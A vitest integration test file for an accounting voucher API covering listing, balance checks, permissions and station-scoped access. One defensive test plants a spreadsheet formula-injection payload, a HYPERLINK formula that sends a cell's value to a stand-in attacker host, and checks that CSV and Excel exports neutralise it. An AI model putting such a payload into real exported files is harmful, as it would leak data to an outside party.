import { randomUUID } from 'node:crypto';
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MENSAJES_COMPROBANTES } from '@eds/contracts/conciliacion/comprobantes';
import { MENSAJES_CONTABILIDAD as MC } from '@eds/contracts/conciliacion/contabilidad';
import { MENSAJES } from '@eds/contracts/mensajes';
import { fila, filas } from '../src/db/client';
import { conToken, ingresar, type AppDePrueba, crearApp } from './helper';
import { estacionPos, type EstacionPos } from './pos-fixtures';
import { aLas, diaDePrueba, publicar, ventaDe } from './reportes-fixtures';

/**
 * The day vouchers as Apuntamientos contables lists them (`GET SI:v1/posting/voucher`): every voucher of the caller's
 * stations with its balance check recomputed from its lines; a station administrator reaches its own station's
 * vouchers only, whether it lists them or names a sibling station's voucher by id (detail, file, send, state).
 */
let t: AppDePrueba;
let admin: ReturnType<typeof conToken>;
let D: string;
/** The station administrator's station and a sibling station of the same business, each with a reconciled day D. */
const dias: Record<'propia' | 'hermana', { e: EstacionPos; centavos: number; comprobante: number }> = {} as never;

/** A clean day at a station: one cash fuel sale outside any shift and a dip of every active tank; then it is reconciled. */
async function conciliarDiaLimpio(e: EstacionPos, galones: number): Promise<{ centavos: number; comprobante: number }> {
  const venta = ventaDe(e, aLas(D, '10:00:00'), galones);
  await publicar(t.app, e.token, 'ventas', 'ventas', [venta]);
  const tanques = await filas<{ id: number }>(
    t.database.db,
    sql`SELECT id FROM bodegas WHERE empresa_id = ${e.empresaId} AND tipo = 'TANQUE' AND estado = 'A' ORDER BY id`,
  );
  await publicar(
    t.app,
    e.token,
    'lecturas-tanque',
    'lecturas',
    tanques.map((b) => ({ uuid: randomUUID(), fecha: aLas(D, '21:00:00'), bodega_id: b.id, volumen: 3000 })),
  );
  const r = await admin('POST', '/api/v1/sap/clousingDay/create', { empresaId: e.empresaId, fechaCierre: D });
  expect(r.statusCode, r.body).toBe(200);
  return { centavos: venta.centavos, comprobante: r.json().result.comprobante_id };
}

beforeAll(async () => {
  t = await crearApp();
  D = diaDePrueba();
  // The station administrator may read, export and send vouchers, and confirm them in the monitor.
  await t.database.db.execute(sql`INSERT INTO perfiles_modulos (perfiles_id, modulos_id, asignaciones)
    SELECT p.id, m.id, CASE m.link WHEN '/integraciones/apuntamientos' THEN 'REX' ELSE 'RUX' END
      FROM perfiles p, modulos m
     WHERE p.descripcion = 'ADMINISTRADOR DE ESTACION' AND m.link IN ('/integraciones/apuntamientos', '/integraciones/sap')
    ON CONFLICT (perfiles_id, modulos_id) DO UPDATE SET asignaciones = EXCLUDED.asignaciones`);
  const propia = (await ingresar(t.app, 'ADMINEDS')).data.empresas_id;
  const estaciones = (await filas<{ id: number }>(t.database.db, sql`SELECT id FROM empresas WHERE tipo = 3 ORDER BY id`)).map((x) => x.id);
  const hermana = estaciones.find((id) => id !== propia)!;
  const ep = await estacionPos(t, estaciones.indexOf(propia));
  const eh = await estacionPos(t, estaciones.indexOf(hermana));
  admin = conToken(t.app, ep.admin);
  const regla = await admin('POST', '/api/v1/postingRule', {
    empresa_id: ep.empresaId,
    operacion: 'VENTA CONTADO',
    tipo_negocio: '*',
    cuenta_debito: '110505',
    cuenta_credito: '413520',
  });
  expect([200, 400]).toContain(regla.statusCode);
  if (regla.statusCode === 400) expect(regla.json().mensaje).toBe(MC.reglaRepetida);
  dias.propia = { e: ep, ...(await conciliarDiaLimpio(ep, 4.25)) };
  dias.hermana = { e: eh, ...(await conciliarDiaLimpio(eh, 6.5)) };
});
afterAll(async () => t.cerrar());

const deDia = <T extends { fecha: string }>(r: T[]) => r.filter((x) => x.fecha === D);

describe('GET SI:v1/posting/voucher: the day vouchers with their balance check', () => {
  it('lists the vouchers of every station in scope, balanced, with the sums of their lines to the cent', async () => {
    const r = await admin('GET', `/api/v1/posting/voucher?fechaInicial=${D}&fechaFinal=${D}`);
    expect(r.statusCode, r.body).toBe(200);
    const lista = r.json().data as {
      id: number;
      empresas_id: number;
      lineas: number;
      debitos: number;
      creditos: number;
      cuadra: boolean;
    }[];
    expect(r.json().paginacion.total).toBe(2);
    for (const d of [dias.propia, dias.hermana]) {
      const v = lista.find((x) => x.id === d.comprobante)!;
      expect(v).toMatchObject({ empresas_id: d.e.empresaId, estado: 'PENDIENTE', fecha: D, lineas: 2, cuadra: true });
      expect(Math.round(v.debitos * 100)).toBe(d.centavos);
      expect(Math.round(v.creditos * 100)).toBe(d.centavos);
    }
    const una = await admin('GET', `/api/v1/posting/voucher?empresaId=${dias.hermana.e.empresaId}&fechaInicial=${D}&fechaFinal=${D}`);
    expect(una.json().data.map((x: { id: number }) => x.id)).toEqual([dias.hermana.comprobante]);
  });

  it('refuses an inverted date range and a user without any accounting module', async () => {
    const r = await admin('GET', `/api/v1/posting/voucher?fechaInicial=${D}&fechaFinal=2000-01-01`);
    expect(r.statusCode).toBe(400);
    expect(JSON.stringify(r.json())).toContain(MENSAJES_COMPROBANTES.fechasInvertidas);
    const consulta = conToken(t.app, (await ingresar(t.app, 'CONSULTA')).token);
    const sin = await consulta('GET', '/api/v1/posting/voucher');
    expect(sin.statusCode).toBe(403);
    expect(sin.json().mensaje).toBe(MENSAJES.sinPermisoModulo);
  });

  it('a voucher whose lines no longer balance is listed with cuadra false', async () => {
    const propio = dias.propia.comprobante;
    await t.database.db.execute(sql`UPDATE comprobantes_lineas SET debito = debito + 0.01 WHERE comprobante_id = ${propio} AND orden = 1`);
    try {
      const r = await admin('GET', `/api/v1/posting/voucher?empresaId=${dias.propia.e.empresaId}&fechaInicial=${D}&fechaFinal=${D}`);
      const [v] = r.json().data as { debitos: number; creditos: number; cuadra: boolean }[];
      expect(v.cuadra).toBe(false);
      expect(Math.round(v.debitos * 100)).toBe(dias.propia.centavos + 1);
      expect(Math.round(v.creditos * 100)).toBe(dias.propia.centavos);
    } finally {
      await t.database.db.execute(
        sql`UPDATE comprobantes_lineas SET debito = debito - 0.01 WHERE comprobante_id = ${propio} AND orden = 1`,
      );
    }
  });
});

describe('the voucher file never carries a live formula', () => {
  it('a third party, description or cost centre stored as a formula comes out neutralised; the amounts stay numbers', async () => {
    const id = dias.hermana.comprobante;
    const antes = await fila<{ tercero: string | null; descripcion: string | null; centro_costo: string | null }>(
      t.database.db,
      sql`SELECT tercero, descripcion, centro_costo FROM comprobantes_lineas WHERE comprobante_id = ${id} AND orden = 1`,
    );
    const tercero = '=HYPERLINK("http://atacante.example/?d="&A1,"Ver soporte")';
    await t.database.db.execute(
      sql`UPDATE comprobantes_lineas SET tercero = ${tercero}, descripcion = '@SUM(1+1)', centro_costo = '-10'
           WHERE comprobante_id = ${id} AND orden = 1`,
    );
    try {
      const r = await admin('GET', `/api/v1/posting/voucher/${id}/file?formato=csv`);
      expect(r.statusCode, r.body).toBe(200);
      const [, primera] = r.body.replace(/^\uFEFF/, '').split('\r\n');
      // comprobante, fecha, estacion, linea, cuenta, then the three neutralised cells, then debit and credit as numbers.
      expect(primera).toMatch(
        /^\d+(\.00)?,\d{4}-\d\d-\d\d,[^,]+,1(\.00)?,\d+,'-10,"'=HYPERLINK\(""http:\/\/atacante\.example\/\?d=""&A1,""Ver soporte""\)",'@SUM\(1\+1\),\d+\.\d\d,\d+\.\d\d$/,
      );
      // No cell of the file begins as a formula.
      for (const linea of r.body.split('\r\n')) expect(linea).not.toMatch(/(^|,)"?[=+@-]/);

      // The Excel file keeps the text as text: a string cell, not a formula.
      const xlsx = await admin('GET', `/api/v1/posting/voucher/${id}/file?formato=xlsx`);
      expect(xlsx.statusCode).toBe(200);
      const libro = new ExcelJS.Workbook();
      await libro.xlsx.load(new Uint8Array(xlsx.rawPayload).buffer);
      const celda = libro.worksheets[0].getRow(2).getCell(7);
      expect(celda.type).toBe(ExcelJS.ValueType.String);
      expect(celda.value).toBe(tercero);
    } finally {
      await t.database.db.execute(
        sql`UPDATE comprobantes_lineas SET tercero = ${antes!.tercero}, descripcion = ${antes!.descripcion}, centro_costo = ${antes!.centro_costo}
             WHERE comprobante_id = ${id} AND orden = 1`,
      );
    }
  });
});

describe('a station administrator reaches its own station vouchers only', () => {
  it('lists its own, and is refused a sibling station by id in every voucher call', async () => {
    const eds = conToken(t.app, (await ingresar(t.app, 'ADMINEDS')).token);
    const propias = await eds('GET', `/api/v1/posting/voucher?fechaInicial=${D}&fechaFinal=${D}`);
    expect(propias.statusCode, propias.body).toBe(200);
    expect(deDia(propias.json().data as { id: number; fecha: string }[]).map((x) => x.id)).toEqual([dias.propia.comprobante]);
    const fuera = await eds('GET', `/api/v1/posting/voucher?empresaId=${dias.hermana.e.empresaId}`);
    expect(fuera.statusCode).toBe(403);
    expect(fuera.json().mensaje).toBe(MENSAJES.empresaFueraDeAlcance);

    const ajeno = dias.hermana.comprobante;
    for (const [metodo, url, cuerpo] of [
      ['GET', `/api/v1/posting/voucher/${ajeno}`],
      ['GET', `/api/v1/posting/voucher/${ajeno}/file?formato=csv`],
      ['POST', '/api/v1/posting/send', { comprobantes: [ajeno], formato: 'csv' }],
      ['POST', '/api/v1/sap/clousingDay/send', { comprobantes: [ajeno], formato: 'xlsx' }],
      ['POST', '/api/v1/posting/send', { comprobantes: [dias.propia.comprobante, ajeno], formato: 'csv' }],
      ['PUT', `/api/v1/sap/clousingDay/voucher/${ajeno}/estado`, { estado: 'CONCILIADO' }],
    ] as const) {
      const x = await eds(metodo, url, cuerpo);
      expect(x.statusCode, `${metodo} ${url}`).toBe(404);
      expect(x.json().mensaje).toBe(MC.noExiste);
    }
    // Nothing was exported or recorded: both vouchers are still PENDIENTE with their one history row.
    const estados = await filas<{ id: number; estado: string; historial: number }>(
      t.database.db,
      sql`SELECT c.id, c.estado, (SELECT count(*)::int FROM comprobantes_estados h WHERE h.comprobante_id = c.id) AS historial
            FROM comprobantes_contables c WHERE c.id IN (${dias.propia.comprobante}, ${ajeno}) ORDER BY c.id`,
    );
    expect(estados.map((x) => [x.estado, x.historial])).toEqual([
      ['PENDIENTE', 1],
      ['PENDIENTE', 1],
    ]);

    // Its own voucher: detail, file, and the send that records it ENVIADO.
    const v = await eds('GET', `/api/v1/posting/voucher/${dias.propia.comprobante}`);
    expect(v.statusCode, v.body).toBe(200);
    const enviado = await eds('POST', '/api/v1/posting/send', { comprobantes: [dias.propia.comprobante], formato: 'csv' });
    expect(enviado.statusCode, enviado.body).toBe(200);
    expect(enviado.headers['x-enviados']).toBe('1');
    const estado = await fila<{ estado: string }>(
      t.database.db,
      sql`SELECT estado FROM comprobantes_contables WHERE id = ${dias.propia.comprobante}`,
    );
    expect(estado!.estado).toBe('ENVIADO');
    const lista = await eds('GET', `/api/v1/posting/voucher?estado=ENVIADO`);
    expect(lista.json().data.map((x: { id: number }) => x.id)).toEqual([dias.propia.comprobante]);
  });
});
